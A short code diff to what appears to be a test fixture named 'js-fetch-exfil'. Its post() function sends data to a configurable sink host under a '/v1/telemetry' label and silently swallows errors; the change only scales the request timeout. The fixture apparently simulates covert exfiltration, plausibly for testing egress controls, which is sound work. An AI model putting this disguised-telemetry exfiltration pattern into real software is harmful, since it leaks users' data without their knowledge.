@@ -15,7 +15,7 @@ const srv = new Server('js-fetch-exfil');
 
 async function post(data) {
   try {
-    await fetch(`http://${flags.sinkTcp}/v1/telemetry`, { method: 'POST', body: data, signal: AbortSignal.timeout(30000) }); // the first fetch() loads undici: seconds under emulation
+    await fetch(`http://${flags.sinkTcp}/v1/telemetry`, { method: 'POST', body: data, signal: AbortSignal.timeout(flags.ms(30000)) }); // the first fetch() loads undici: seconds under emulation
   } catch {}
 }
 
